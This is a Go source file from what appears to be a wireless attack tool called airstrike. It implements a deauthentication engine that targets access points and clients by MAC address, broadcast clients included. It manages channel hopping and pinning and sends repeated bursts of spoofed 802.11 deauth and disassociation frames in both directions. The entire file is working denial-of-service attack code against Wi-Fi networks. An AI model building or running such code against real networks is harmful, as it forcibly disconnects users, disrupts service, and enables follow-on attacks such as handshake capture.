package deauth

import (
	"fmt"
	"log"
	"net"
	"sync"
	"time"

	"github.com/lcalzada-xor/airstrike/internal/adapters/attack"
	"github.com/lcalzada-xor/airstrike/internal/adapters/frame"
	"github.com/lcalzada-xor/airstrike/internal/core/domain"
	"github.com/lcalzada-xor/airstrike/internal/core/ports"
)

const (
	// DefaultInterval is the pause between bursts of a standalone attack.
	DefaultInterval = 100 * time.Millisecond
	// DefaultMaxTargets bounds the target set.
	DefaultMaxTargets = 16
	// DefaultFramesPerTick bounds the frames one Tick transmits. With the
	// default 1 ms frame gap a Tick holds the radio for at most 60 ms; a
	// larger burst continues on the following ticks.
	DefaultFramesPerTick = 60

	framesPerIteration = 3

	minBurst = 1
	maxBurst = 50
)

// Options tune an Engine.
type Options struct {
	Interval      time.Duration
	FrameGap      time.Duration
	MaxTargets    int
	FramesPerTick int
}

// Engine is the deauthentication state machine. Every interval it opens a
// round that sends, for each target, burst iterations of deauth in both
// directions plus a disassoc. A round spans as many ticks as the frame budget
// requires, and a failed send resumes at the same target on the next tick.
type Engine struct {
	mu       sync.Mutex
	sched    ports.ChannelScheduler
	tx       *attack.Emitter
	interval time.Duration
	max      int
	budget   int

	targets []domain.Target
	burst   int
	channel int
	hopping bool

	running    bool
	pinned     bool
	pinPending bool

	// round state
	inRound  bool
	order    []int
	pos      int
	iter     int
	hopCh    int
	visiting bool

	started    time.Time
	lastBurst  time.Time
	lastTick   time.Time
	packets    uint32
}

var _ ports.DeauthMachine = (*Engine)(nil)

// NewEngine creates an idle engine transmitting through radio.
func NewEngine(radio ports.FrameInjector, sched ports.ChannelScheduler, opts Options) *Engine {
	if opts.Interval <= 0 {
		opts.Interval = DefaultInterval
	}
	if opts.MaxTargets <= 0 {
		opts.MaxTargets = DefaultMaxTargets
	}
	if opts.FramesPerTick < framesPerIteration {
		opts.FramesPerTick = DefaultFramesPerTick
	}
	return &Engine{
		sched:    sched,
		tx:       attack.NewEmitter(radio, domain.AttackDeauth.String(), opts.FrameGap),
		interval: opts.Interval,
		max:      opts.MaxTargets,
		budget:   opts.FramesPerTick,
		burst:    10,
		hopping:  true,
	}
}

func (e *Engine) log(format string, args ...any) {
	log.Printf("[DEAUTH] "+format, args...)
}

// AddTarget appends a target. The BSSID must be a resolved 6-byte address;
// an empty client selects broadcast.
func (e *Engine) AddTarget(t domain.Target) error {
	if len(t.BSSID) != 6 {
		return fmt.Errorf("%w: bssid %q", domain.ErrInvalidMAC, t.BSSID)
	}
	if len(t.Client) == 0 {
		t.Client = domain.BroadcastMAC
	}
	if len(t.Client) != 6 {
		return fmt.Errorf("%w: client %q", domain.ErrInvalidMAC, t.Client)
	}
	if t.Channel != 0 && !domain.IsValidChannel(t.Channel) {
		return fmt.Errorf("invalid target channel %d", t.Channel)
	}

	e.mu.Lock()
	defer e.mu.Unlock()
	if len(e.targets) >= e.max {
		return domain.ErrTargetLimit
	}
	t.BSSID = append(net.HardwareAddr(nil), t.BSSID...)
	t.Client = append(net.HardwareAddr(nil), t.Client...)
	t.PacketsSent = 0
	e.targets = append(e.targets, t)
	return nil
}

// ClearTargets empties the target set.
func (e *Engine) ClearTargets() {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.targets = nil
	if e.inRound {
		e.endRound()
	}
}

// Targets returns a copy of the target set with per-target counters.
func (e *Engine) Targets() []domain.Target {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]domain.Target(nil), e.targets...)
}

// SetPacketsPerBurst sets burst iterations per target, clamped to 1..50.
func (e *Engine) SetPacketsPerBurst(n int) {
	if n < minBurst {
		n = minBurst
	}
	if n > maxBurst {
		n = maxBurst
	}
	e.mu.Lock()
	e.burst = n
	e.mu.Unlock()
}

// SetChannel pins the attack to ch (1..14). 0 restores hopping.
func (e *Engine) SetChannel(ch int) error {
	if ch != 0 && !domain.IsValidChannel(ch) {
		return fmt.Errorf("invalid channel %d", ch)
	}
	e.mu.Lock()
	e.channel = ch
	e.mu.Unlock()
	return nil
}

// SetHopping selects whether the scheduler hops while no channel is pinned.
func (e *Engine) SetHopping(enabled bool) {
	e.mu.Lock()
	e.hopping = enabled
	e.mu.Unlock()
}

// ApplySettings takes the burst size and hopping preference.
func (e *Engine) ApplySettings(s domain.AttackSettings) {
	e.SetPacketsPerBurst(s.DeauthPacketsPerBurst)
	e.SetHopping(s.ChannelHopping)
}

// SetInterval changes the burst cadence.
func (e *Engine) SetInterval(d time.Duration) {
	if d <= 0 {
		return
	}
	e.mu.Lock()
	e.interval = d
	e.mu.Unlock()
}

// Start begins bursting after one interval. It fails without targets.
func (e *Engine) Start(now time.Time) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.running {
		return nil
	}
	if len(e.targets) == 0 {
		return domain.ErrNoTargets
	}
	for i := range e.targets {
		e.targets[i].PacketsSent = 0
	}
	e.packets = 0
	e.started = now
	e.lastBurst = now
	e.lastTick = now
	e.running = true
	e.pinned = false
	e.pinPending = false
	e.inRound = false
	e.visiting = false

	if e.sched != nil {
		if ch := e.pinChannel(); ch != 0 {
			e.pin(ch)
		} else {
			e.sched.SetHopping(e.hopping)
		}
	}
	e.log("Started against %d target(s), burst=%d, interval=%v", len(e.targets), e.burst, e.interval)
	return nil
}

// pinChannel is the explicit channel, or the channel every target shares.
func (e *Engine) pinChannel() int {
	if e.channel != 0 || len(e.targets) == 0 {
		return e.channel
	}
	ch := e.targets[0].Channel
	for _, t := range e.targets[1:] {
		if t.Channel != ch {
			return 0
		}
	}
	return ch
}

func (e *Engine) pin(ch int) {
	if err := e.sched.Pin(ch); err != nil {
		if !e.pinPending {
			e.log("Pin channel %d failed, retrying: %v", ch, err)
		}
		e.pinPending = true
		return
	}
	e.pinned = true
	e.pinPending = false
}

// Stop freezes counters and destroys the target set.
func (e *Engine) Stop() {
	e.mu.Lock()
	defer e.mu.Unlock()
	if !e.running {
		return
	}
	e.running = false
	if (e.pinned || e.visiting) && e.sched != nil {
		e.sched.Unpin()
	}
	e.pinned = false
	e.pinPending = false
	e.visiting = false
	e.inRound = false
	e.targets = nil
	e.log("Stopped after %d packets", e.packets)
}

// Tick opens a round when the interval has elapsed and transmits up to the
// frame budget of the open round.
func (e *Engine) Tick(now time.Time) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if !e.running {
		return
	}
	e.lastTick = now

	if e.sched != nil {
		if ch := e.pinChannel(); e.pinPending && ch != 0 {
			e.pin(ch)
		}
		e.sched.Tick(now)
	}
	if !e.inRound {
		if !attack.Due(now, e.lastBurst, e.interval) {
			return
		}
		e.beginRound(now)
	}
	e.continueRound()
}

// beginRound orders hop-following targets before channel-specific ones so
// the former go out on the hop channel.
func (e *Engine) beginRound(now time.Time) {
	e.lastBurst = now
	e.inRound = true
	e.pos, e.iter = 0, 0
	e.order = e.order[:0]
	for i, t := range e.targets {
		if t.Channel == 0 {
			e.order = append(e.order, i)
		}
	}
	for i, t := range e.targets {
		if t.Channel != 0 {
			e.order = append(e.order, i)
		}
	}
	if e.sched != nil {
		e.hopCh = e.sched.Current()
	}
}

func (e *Engine) continueRound() {
	mixed := e.pinChannel() == 0
	budget := e.budget
	for e.pos < len(e.order) {
		if e.order[e.pos] >= len(e.targets) {
			break
		}
		t := &e.targets[e.order[e.pos]]
		if mixed && t.Channel != 0 && e.sched != nil && e.sched.Current() != t.Channel {
			if err := e.sched.Pin(t.Channel); err != nil {
				// Radio busy; the next tick retries.
				return
			}
			e.visiting = true
		}
		for e.iter < e.burst {
			if budget < framesPerIteration {
				return
			}
			if !e.sendIteration(t) {
				// Radio busy; the next tick resumes here.
				return
			}
			budget -= framesPerIteration
			e.iter++
		}
		e.pos++
		e.iter = 0
	}
	e.endRound()
}

// endRound returns the radio to the hop channel after visiting target channels.
func (e *Engine) endRound() {
	e.inRound = false
	if !e.visiting || e.sched == nil {
		return
	}
	if e.hopCh != 0 {
		if err := e.sched.Pin(e.hopCh); err != nil {
			e.log("Return to channel %d failed: %v", e.hopCh, err)
		}
	}
	e.sched.Unpin()
	e.visiting = false
}

func (e *Engine) sendIteration(t *domain.Target) bool {
	if !e.tx.Send("deauth", frame.BuildDeauth(frame.APToClient, t.BSSID, t.Client)) ||
		!e.tx.Send("deauth", frame.BuildDeauth(frame.ClientToAP, t.BSSID, t.Client)) ||
		!e.tx.Send("disassoc", frame.BuildDisassoc(t.BSSID, t.Client)) {
		return false
	}
	t.PacketsSent += 2
	e.packets += 2
	return true
}

func (e *Engine) Running() bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.running
}

func (e *Engine) Stats() domain.AttackStats {
	e.mu.Lock()
	defer e.mu.Unlock()
	var d time.Duration
	if !e.started.IsZero() {
		d = e.lastTick.Sub(e.started)
	}
	return domain.AttackStats{
		PacketsTotal:    e.packets,
		ClientsAffected: uint32(len(e.targets)),
		Duration:        d,
	}
}

// PacketsSent returns the total counter.
func (e *Engine) PacketsSent() uint32 {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.packets
}

func (e *Engine) Snapshot() domain.SessionVariant {
	e.mu.Lock()
	defer e.mu.Unlock()
	ch := e.channel
	if e.sched != nil {
		ch = e.sched.Current()
	}
	return domain.DeauthVariant{
		Targets: append([]domain.Target(nil), e.targets...),
		Channel: ch,
		Burst:   e.burst,
	}
}
